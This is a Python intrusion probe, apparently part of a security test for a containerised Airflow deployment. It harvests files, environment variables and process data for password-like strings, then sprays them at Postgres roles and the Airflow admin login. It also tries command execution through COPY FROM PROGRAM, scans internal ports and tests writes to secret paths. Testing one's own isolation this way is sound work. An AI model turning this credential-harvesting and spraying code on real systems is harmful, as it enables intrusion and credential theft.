"""What an intruder tries who runs code in a container: `python3 -c` of this text there; prints what came of it as JSON."""

from __future__ import annotations

import itertools
import json
import os
import re
import socket
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

FOLDERS = ("/run", "/var/lib", "/opt/airflow", "/opt/highwater/config", "/tmp", "/home", "/root", "/etc", "/mnt")
HOSTS = ("metadata", "warehouse", "redis", "apiserver", "scheduler", "worker", "dag-processor", "triggerer", "init")
PORTS = (22, 5432, 5555, 6379, 8080, 8793, 8794)
ROLES = ("postgres", "publisher", "airflow", "operator", "analyst", "loader", "simulator", "legacy_reader")
TARGETS = (
    "/usr/mine", "/opt/highwater/dags/mine.py", "/opt/highwater/sql/mine.sql", "/opt/highwater/config/mine.py",
    "/opt/highwater/highwater/mine.py", "/opt/highwater/expectations/mine.json", "/opt/airflow/mine.cfg",
    "/run/highwater-secrets/mine", "/run/highwater-ui/ui_passwords.json", "/run/sockets/mine",
    "/var/lib/highwater/ui_passwords.json", "/var/lib/highwater/anchor", "/var/lib/highwater/policies.json",
)  # fmt: skip


def texts() -> str:
    """Everything that can be read: files, and the environment and arguments of every process."""
    found = [json.dumps(dict(os.environ))]
    paths = [Path(folder) / name for top in FOLDERS for folder, _, names in os.walk(top) for name in names]
    paths += [p / name for p in Path("/proc").iterdir() if p.name.isdigit() for name in ("environ", "cmdline")]
    for path in paths:
        try:
            if path.is_file() and path.stat().st_size < 1 << 22:
                found.append(path.read_bytes().decode(errors="replace"))
        except OSError:
            continue
    return "\n".join(found)


def guesses(known: str) -> list[str]:
    """Whatever looks like a generated password."""
    return sorted({word for word in re.findall(r"[\w-]{32}(?![\w-])", known) if not re.fullmatch(r"[0-9a-f]+", word)})


def logins(passwords: list[str]) -> list[list[str]]:
    """Server, role and whether it is a superuser, for each login that some password opens; and what it could run."""
    import psycopg2

    opened = []
    for server, role, password in itertools.product(("warehouse", "metadata"), ROLES, ["", *passwords]):
        database = "airflow" if server == "metadata" else "warehouse"
        try:
            link = psycopg2.connect(
                host=server, user=role, password=password, dbname=database, connect_timeout=3, sslmode="disable"
            )
        except psycopg2.OperationalError as error:
            if "translate host name" in str(error):
                break
            continue
        with link.cursor() as cursor:
            cursor.execute("SELECT rolsuper FROM pg_roles WHERE rolname = current_user")
            opened.append([server, role, "superuser" if cursor.fetchone()[0] else "no superuser"])
            try:
                cursor.execute("CREATE TEMPORARY TABLE stolen (line text)")
                cursor.execute("COPY stolen FROM PROGRAM 'id'")
                opened.append([server, role, "ran a program"])
            except psycopg2.Error:
                pass
        link.close()
    return opened


def open_ports() -> list[str]:
    """Every port of another service that takes a connection."""
    found = []
    for host, port in itertools.product(HOSTS, PORTS):
        try:
            addresses = {info[4][0] for info in socket.getaddrinfo(host, port, socket.AF_INET)}
        except OSError:
            continue
        if addresses & own_addresses():
            continue
        for address in addresses:
            try:
                socket.create_connection((address, port), timeout=2).close()
            except OSError:
                continue
            found.append(f"{host}:{port}")
            break
    return found


def own_addresses() -> set[str]:
    """The addresses of this container."""
    return set(socket.gethostbyname_ex(socket.gethostname())[2])


def written() -> list[str]:
    """What could be written that is not for it."""
    done = []
    for target in TARGETS:
        try:
            with Path(target).open("a"):
                done.append(target)
        except OSError:
            continue
    return done


def let_in(passwords: list[str]) -> list[str]:
    """The passwords that Airflow's login takes."""
    taken = []
    for password in ["admin", "airflow", *passwords]:
        body = json.dumps({"username": "admin", "password": password}).encode()
        asked = urllib.request.Request(
            "http://apiserver:8080/auth/token", body, {"Content-Type": "application/json"}, method="POST"
        )
        try:
            urllib.request.urlopen(asked, timeout=20).close()
        except urllib.error.HTTPError:
            continue
        taken.append(password)
    return taken


def has_way_out() -> bool:
    """Whether there is a route that leads beyond the networks this container is in."""
    return any(line.split()[1] == "00000000" for line in Path("/proc/net/route").read_text().splitlines()[1:])


def main() -> dict[str, Any]:
    """All of it."""
    known = texts()
    passwords = guesses(known)
    return {
        "known": known,
        "passwords": len(passwords),
        "logins": logins(passwords),
        "ports": open_ports(),
        "written": written(),
        "let in": let_in(passwords),
        "way out": has_way_out(),
    }


if __name__ == "__main__":
    print(json.dumps(main()))
